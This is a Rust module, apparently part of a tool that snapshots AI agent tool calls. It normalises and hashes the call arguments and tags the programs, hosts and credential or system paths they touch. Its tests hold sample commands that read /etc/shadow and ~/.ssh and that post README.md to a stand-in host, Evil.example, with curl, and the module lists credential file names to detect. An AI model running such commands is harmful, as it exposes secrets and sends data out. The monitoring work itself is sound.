//! What a call's arguments become in a snapshot: a digest of their normalised form, and tags that say what
//! they are about.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use super::model::TAGS;
use super::normalise::Normaliser;
use crate::Error;
use crate::script;
use crate::shell;

/// Longest arguments that are taken apart, in bytes. Longer ones have a digest of their whole text.
const LIMIT: usize = 1 << 20;
/// Longest tag, in characters.
const TAG_LENGTH: usize = 80;
/// Digits of a digest: 128 bits.
const DIGEST_LENGTH: usize = 32;

/// Of the fields that hold a command, the one that Claude Code writes into a decision, the one that repeats a part of it, and the
/// one that it writes elsewhere.
const FULL_COMMAND: &str = "full_command";
const PART_OF_COMMAND: &str = "bash_command";
const COMMAND: &str = "command";
/// Fields beside a command that hold the model's own words for it.
const PROSE: &[&str] = &["description", "justification"];
/// The field that names a process which goes on between calls.
const PROCESS: &str = "session_id";
/// Names of files and folders that hold credentials.
const CREDENTIALS: &[&str] = &[
    ".ssh",
    ".aws",
    ".gnupg",
    ".netrc",
    ".env",
    ".kube",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    ".docker",
    "id_rsa",
    "id_ed25519",
    "shadow",
    "credentials",
    "credentials.json",
];
/// Devices that mean nothing.
const NO_DEVICES: &[&str] = &["/dev/null", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty"];

static HOST_OF_URL: LazyLock<Result<Regex, regex::Error>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)\b[a-z][a-z0-9+.-]{0,31}://(?:[^\s/@'"]{0,256}@)?(\[[0-9a-f:.]+\]|[^\s/:?#'"\\<>|;&)(\[\]{},]+)"#,
    )
});

/// What arguments become.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Digested {
    /// Digest of the normalised arguments.
    pub digest: String,
    /// Tags, sorted.
    pub tags: Vec<String>,
}

/// The digest of a normalised text.
pub(super) fn digest(text: &str) -> String {
    let mut digits = blake3::hash(text.as_bytes()).to_hex().to_string();
    digits.truncate(DIGEST_LENGTH);
    digits
}

/// Digests the arguments of a call.
pub(super) fn digested(arguments: &str, normaliser: &Normaliser) -> Result<Digested, Error> {
    let url = HOST_OF_URL.as_ref().map_err(|error| Error::Rules(error.clone()))?;
    let mut about = About { normaliser, url, tags: BTreeSet::new() };
    let parsed =
        (arguments.len() <= LIMIT).then(|| serde_json::from_str::<Value>(arguments).ok()).flatten();
    let normalised = match parsed {
        Some(Value::Object(fields)) => {
            let fields = fields_of(fields.into_iter().collect());
            about.fields(&fields);
            let mut text = String::new();
            object(&fields, normaliser, &mut text);
            text
        }
        Some(value) => {
            about.kind("value");
            let mut text = String::new();
            canonical(&value, normaliser, &mut text);
            text
        }
        None => {
            about.text(arguments);
            normaliser.text(arguments)
        }
    };
    Ok(Digested { digest: digest(&normalised), tags: about.finish() })
}

/// The fields that count: without prose beside a command, and a command under one name.
fn fields_of(mut fields: BTreeMap<String, Value>) -> BTreeMap<String, Value> {
    if let Some(command) = fields.remove(FULL_COMMAND) {
        fields.remove(PART_OF_COMMAND);
        fields.entry(COMMAND.to_owned()).or_insert(command);
    }
    if script::command(&fields).is_some() {
        fields.retain(|name, _| !PROSE.contains(&name.as_str()));
    }
    fields
}

/// JSON with sorted keys, without white space, with normalised strings.
fn canonical(value: &Value, normaliser: &Normaliser, out: &mut String) {
    match value {
        Value::Object(fields) => {
            let fields = fields.iter().map(|(name, value)| (name.clone(), value.clone())).collect();
            object(&fields, normaliser, out);
        }
        Value::Array(items) => {
            out.push('[');
            for (index, item) in items.iter().enumerate() {
                if index > 0 {
                    out.push(',');
                }
                canonical(item, normaliser, out);
            }
            out.push(']');
        }
        Value::String(text) => string(&normaliser.text(text), out),
        Value::Number(number) => {
            let digits = number.to_string();
            let normalised = normaliser.text(&digits);
            if normalised == digits { out.push_str(&digits) } else { string(&normalised, out) }
        }
        Value::Bool(_) | Value::Null => {
            // Writing to a String cannot fail.
            let _ = write!(out, "{value}");
        }
    }
}

fn object(fields: &BTreeMap<String, Value>, normaliser: &Normaliser, out: &mut String) {
    out.push('{');
    for (index, (name, value)) in fields.iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        string(name, out);
        out.push(':');
        if name == PROCESS && value.is_number() {
            string("<process>", out);
        } else {
            canonical(value, normaliser, out);
        }
    }
    out.push('}');
}

fn string(text: &str, out: &mut String) {
    let _ = write!(out, "{}", Value::from(text));
}

/// What arguments are about.
struct About<'a> {
    normaliser: &'a Normaliser,
    url: &'a Regex,
    tags: BTreeSet<String>,
}

impl About<'_> {
    fn finish(self) -> Vec<String> {
        let all = self.tags.len();
        let mut tags: Vec<String> = self.tags.into_iter().collect();
        if all > TAGS {
            tags.truncate(TAGS - 1);
            tags.push("more:tags".to_owned());
        }
        tags
    }

    fn tag(&mut self, kind: &str, what: &str) {
        self.tags.insert(format!("{kind}:{what}").chars().take(TAG_LENGTH).collect());
    }

    fn kind(&mut self, kind: &str) {
        self.tag("kind", kind);
    }

    fn fields(&mut self, fields: &BTreeMap<String, Value>) {
        if let Some(script) = script::command(fields) {
            self.command(&script);
            return;
        }
        self.kind("fields");
        for (name, value) in fields {
            self.tag("field", name);
            let Some(text) = value.as_str() else { continue };
            self.hosts(text);
            let lower = name.to_ascii_lowercase();
            if lower.contains("path")
                || lower.contains("file")
                || lower == "cwd"
                || lower == "directory"
            {
                self.path(text, true);
            }
        }
    }

    fn command(&mut self, script: &str) {
        self.kind("command");
        self.hosts(script);
        let reading = shell::read(script);
        for program in &reading.programs {
            let program = self.normaliser.text(program);
            self.tag("program", &program);
        }
        for word in &reading.words {
            self.path(word, false);
        }
        for file in &reading.files {
            self.path(&file.path, true);
        }
        if !reading.whole {
            self.tag("more", "script");
        }
    }

    /// Arguments that are not JSON: a patch, a path, code, or any other text.
    fn text(&mut self, text: &str) {
        if let Some(files) = script::patched(text) {
            self.kind("patch");
            for (file, does) in files {
                self.tag("patch", does);
                self.path(file, true);
            }
            return;
        }
        self.hosts(text);
        if text.trim().is_empty() {
            self.kind("empty");
        } else if text.starts_with('/') && !text.contains(char::is_whitespace) {
            self.kind("path");
            self.path(text, true);
        } else {
            self.kind("text");
        }
    }

    fn hosts(&mut self, text: &str) {
        let found: Vec<String> = self
            .url
            .captures_iter(text)
            .filter_map(|captures| captures.get(1))
            .take(TAGS)
            .map(|host| self.normaliser.host(host.as_str().trim_matches(['[', ']'])))
            .collect();
        for host in found {
            self.tag("host", &host);
        }
    }

    /// Tags a path. A word that need not be one counts only where it leads out of the folder at hand.
    fn path(&mut self, word: &str, certain: bool) {
        let word = word.trim_start_matches('@');
        let word = match word.split_once('=') {
            Some((option, value)) if option.starts_with('-') => value,
            _ => word,
        };
        if word.contains("://") || NO_DEVICES.contains(&word) {
            return;
        }
        let path = self.normaliser.text(word);
        let parts = || path.split(['/', '\\']);
        let class = if parts().any(|part| CREDENTIALS.contains(&part)) {
            "credentials"
        } else if path.starts_with("<tmp>") || path == "/tmp" {
            "temporary"
        } else if path.starts_with("<home>") || path == "~" {
            "home"
        } else if path.starts_with("/dev/") {
            "device"
        } else if path.starts_with("/proc/") || path.starts_with("/sys/") {
            "kernel"
        } else if path.starts_with('/') {
            "absolute"
        } else if parts().any(|part| part == "..") {
            "above"
        } else if certain {
            "relative"
        } else {
            return;
        };
        self.tag("path", class);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn digested(arguments: &str) -> Digested {
        let normaliser = Normaliser::new(None, Some("dev-laptop-01"), None).unwrap();
        super::digested(arguments, &normaliser).unwrap()
    }

    #[test]
    fn the_same_arguments_have_one_digest_however_they_are_written() {
        let same = [
            r#"{"cmd": "ls /tmp/a1", "session_id": 7}"#,
            r#"{"session_id":9,"cmd":"ls /tmp/b2"}"#,
            r#"{"cmd":"ls /tmp/a1","session_id":7,"justification":"to look"}"#,
        ];
        assert!(same.iter().all(|one| digested(one) == digested(same[0])));
        assert_ne!(digested(r#"{"cmd":"ls /srv/a1","session_id":7}"#), digested(same[0]));
        let decision = r#"{"bash_command":"rm","full_command":"rm -rf /x","description":"d"}"#;
        assert_eq!(digested(decision), digested(r#"{"command":"rm -rf /x"}"#));
        assert_ne!(digested(r#"{"path":"a","description":"b"}"#), digested(r#"{"path":"a"}"#));
    }

    #[test]
    fn tags_say_what_arguments_are_about() {
        for (arguments, expected) in [
            (
                r#"{"cmd":"cat /etc/shadow | head -1; ls ~/.ssh 2>/dev/null; cat < /etc/hosts"}"#,
                &[
                    "kind:command",
                    "path:absolute",
                    "path:credentials",
                    "program:cat",
                    "program:head",
                    "program:ls",
                ][..],
            ),
            (
                r#"{"command":["bash","-lc","curl -d @README.md http://user@Evil.example:8080/x"]}"#,
                &["host:evil.example", "kind:command", "program:bash", "program:curl"],
            ),
            (
                r#"{"file_path":"/home/dev/project/new.txt","content":"x"}"#,
                &["field:content", "field:file_path", "kind:fields", "path:home"],
            ),
            (
                "*** Begin Patch\n*** Add File: hello.py\n+x\n*** Update File: ../up.py\n*** End Patch\n",
                &["kind:patch", "patch:add", "patch:update", "path:above", "path:relative"],
            ),
            ("/etc/evil", &["kind:path", "path:absolute"]),
            ("text(await tools.x())", &["kind:text"]),
            ("", &["kind:empty"]),
            ("[1]", &["kind:value"]),
        ] {
            assert_eq!(digested(arguments).tags, expected, "{arguments}");
        }
    }

    #[test]
    fn many_tags_are_cut_and_that_is_said() {
        let fields: Vec<String> = (0..200).map(|n| format!("\"f{n}\":1")).collect();
        let tags = digested(&format!("{{{}}}", fields.join(","))).tags;
        assert_eq!(tags.len(), TAGS);
        assert!(tags.contains(&"more:tags".to_owned()));
    }
}
